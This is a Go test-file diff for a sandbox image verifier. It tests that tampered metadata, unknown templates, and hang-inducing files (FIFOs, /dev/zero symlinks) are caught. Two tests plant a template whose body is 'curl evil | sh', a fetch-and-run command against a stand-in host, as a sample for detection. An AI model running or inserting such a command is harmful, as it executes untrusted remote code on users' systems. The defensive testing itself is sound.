@@ -2,6 +2,7 @@ package images
 
 import (
 	"bytes"
+	"context"
 	"crypto/ed25519"
 	"crypto/rand"
 	"crypto/sha256"
@@ -10,10 +11,13 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
+	"github.com/lxc/incus/v6/shared/api"
 	"golang.org/x/crypto/ssh"
+	"gopkg.in/yaml.v3"
 
 	"github.com/vibesandbox/vibe/signing"
 )
@@ -21,6 +25,13 @@ import (
 // fakeImage writes a small but complete image into a store-shaped folder
 // named by its fingerprint and returns that folder.
 func fakeImage(t testing.TB, parent string, rootfs []byte) string {
+	t.Helper()
+	return fakeImageWith(t, parent, rootfs, nil)
+}
+
+// fakeImageWith is fakeImage with metadata.yaml and the templates edited
+// by edit before they are packed (as an image's author could).
+func fakeImageWith(t testing.TB, parent string, rootfs []byte, edit func(*api.ImageMetadata, map[string][]byte)) string {
 	t.Helper()
 	userData := []byte("#cloud-config\npackages: [git]\n")
 	uds := sha256.Sum256(userData)
@@ -37,12 +48,29 @@ func fakeImage(t testing.TB, parent string, rootfs []byte) string {
 	if err != nil {
 		t.Fatal(err)
 	}
-	var meta bytes.Buffer
-	err = WriteMetaTarball(&meta, []MetaEntry{
-		{Name: "metadata.yaml", Data: []byte("architecture: x86_64\ncreation_date: 1700000000\nproperties:\n  os: debian\n  release: bookworm\n  variant: vibe\n")},
+	md := api.ImageMetadata{Architecture: "x86_64", CreationDate: 1700000000,
+		Properties: ImageProperties(m, &Base{Properties: map[string]string{"os": "debian", "release": "bookworm"}}),
+		Templates: map[string]*api.ImageMetadataTemplate{
+			"/etc/hostname": {When: []string{"create", "copy"}, Template: "hostname.tpl"},
+		}}
+	tpls := map[string][]byte{"hostname.tpl": []byte("{{ instance.name }}\n")}
+	if edit != nil {
+		edit(&md, tpls)
+	}
+	mdYAML, err := yaml.Marshal(&md)
+	if err != nil {
+		t.Fatal(err)
+	}
+	entries := []MetaEntry{
+		{Name: "metadata.yaml", Data: mdYAML},
 		{Name: "vibe/manifest.json", Data: manifest},
 		{Name: "vibe/user-data", Data: userData},
-	})
+	}
+	for name, data := range tpls {
+		entries = append(entries, MetaEntry{Name: "templates/" + name, Data: data})
+	}
+	var meta bytes.Buffer
+	err = WriteMetaTarball(&meta, entries)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -319,4 +347,121 @@ func ExampleDiffManifests() {
 	// config.egress.allow: "github.com" -> "github.com, npmjs.org"
 	// versions.go: "" -> "1.26"
 	// versions.node: "v22.1.0" -> "v22.2.0"
+}
+
+// What came from the image's author and is not covered by the manifest's
+// digests is held to the manifest (properties, type, architecture,
+// creation date); templates other than vibe's known ones are flagged.
+func TestVerifyHoldsMetadataToTheManifest(t *testing.T) {
+	rootfs := []byte("rootfs")
+	for name, tc := range map[string]struct {
+		edit func(*api.ImageMetadata, map[string][]byte)
+		want string
+	}{
+		"forged recipe":           {func(md *api.ImageMetadata, _ map[string][]byte) { md.Properties[PropRecipe] = strings.Repeat("ef", 32) }, "vibe.recipe"},
+		"hidden as intermediate":  {func(md *api.ImageMetadata, _ map[string][]byte) { md.Properties[PropIntermediate] = "x" }, "never writes"},
+		"creation date in 2100":   {func(md *api.ImageMetadata, _ map[string][]byte) { md.CreationDate = 4102444800 }, "creation date"},
+		"another architecture":    {func(md *api.ImageMetadata, _ map[string][]byte) { md.Architecture = "aarch64" }, "architecture"},
+		"recipe property dropped": {func(md *api.ImageMetadata, _ map[string][]byte) { delete(md.Properties, PropRecipe) }, "vibe.recipe"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := fakeImageWith(t, t.TempDir(), rootfs, tc.edit)
+			f, err := Locate(dir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, err := Verify(f, nil); KindOf(err) != Tampered || !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("Verify: %v, want tampered, saying %q", err, tc.want)
+			}
+		})
+	}
+	dir := fakeImageWith(t, t.TempDir(), rootfs, func(md *api.ImageMetadata, tpls map[string][]byte) {
+		md.Templates["/etc/profile.d/x.sh"] = &api.ImageMetadataTemplate{When: []string{"create"}, Template: "x.tpl"}
+		tpls["x.tpl"] = []byte("curl evil | sh\n")
+	})
+	f, _ := Locate(dir)
+	v, err := Verify(f, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := v.Contents.UnknownTemplates(); len(got) != 1 || got[0] != "/etc/profile.d/x.sh" || string(v.Contents.Templates["x.tpl"]) != "curl evil | sh\n" {
+		t.Errorf("unknown templates: %v", got)
+	}
+}
+
+// inspect and diff render metadata.yaml: an added template shows, marked,
+// with its content; a changed property shows.
+func TestMetadataTextShowsWhatRuns(t *testing.T) {
+	read := func(dir string) *Contents {
+		f, _ := Locate(dir)
+		c, err := ReadContentsFile(f.Meta)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return c
+	}
+	a := read(fakeImage(t, t.TempDir(), []byte("r")))
+	b := read(fakeImageWith(t, t.TempDir(), []byte("r"), func(md *api.ImageMetadata, tpls map[string][]byte) {
+		md.Templates["/etc/profile.d/x.sh"] = &api.ImageMetadataTemplate{When: []string{"create"}, Template: "x.tpl"}
+		tpls["x.tpl"] = []byte("curl evil | sh\n")
+		md.Properties["description"] = "changed"
+	}))
+	if MetadataText(a) != MetadataText(read(fakeImage(t, t.TempDir(), []byte("r")))) {
+		t.Error("MetadataText is not deterministic")
+	}
+	d := DiffUserData("a/metadata", []byte(MetadataText(a)), "b/metadata", []byte(MetadataText(b)))
+	for _, want := range []string{"+template /etc/profile.d/x.sh  <-- NOT ONE OF VIBE'S", "+    | curl evil | sh", `+property description: "changed"`} {
+		if !strings.Contains(d, want) {
+			t.Errorf("the metadata diff lacks %q:\n%s", want, d)
+		}
+	}
+}
+
+// A hostile folder cannot make verify hang: a rootfs that is a symlink to
+// /dev/zero or a FIFO is refused at once, and a huge one stops within a
+// second of Ctrl-C.
+func TestVerifyCannotBeMadeToHang(t *testing.T) {
+	for name, plant := range map[string]func(string) error{
+		"symlink to /dev/zero": func(p string) error { os.Remove(p); return os.Symlink("/dev/zero", p) },
+		"fifo":                 func(p string) error { os.Remove(p); return syscall.Mkfifo(p, 0o644) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := fakeImage(t, t.TempDir(), []byte("rootfs"))
+			if err := plant(filepath.Join(dir, "rootfs.tar")); err != nil {
+				t.Fatal(err)
+			}
+			f, err := Locate(dir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			done := make(chan error, 1)
+			go func() { _, err := Verify(f, nil); done <- err }()
+			select {
+			case err := <-done:
+				if KindOf(err) != Unreadable || !strings.Contains(err.Error(), "not a regular file") {
+					t.Errorf("Verify: %v", err)
+				}
+			case <-time.After(5 * time.Second):
+				t.Fatal("Verify hangs")
+			}
+		})
+	}
+	// An endless rootfs read (what a huge one is, at 2 s a GiB): a
+	// cancelled context ends the hashing at once.
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		done <- hashBoth(ctxReader{ctx, zeros{}}, sha256.New(), sha256.New())
+	}()
+	time.Sleep(200 * time.Millisecond)
+	start := time.Now()
+	cancel()
+	select {
+	case err := <-done:
+		if err == nil || time.Since(start) > time.Second {
+			t.Errorf("hashing stopped after %s with %v", time.Since(start), err)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("hashing ignores its context")
+	}
 }
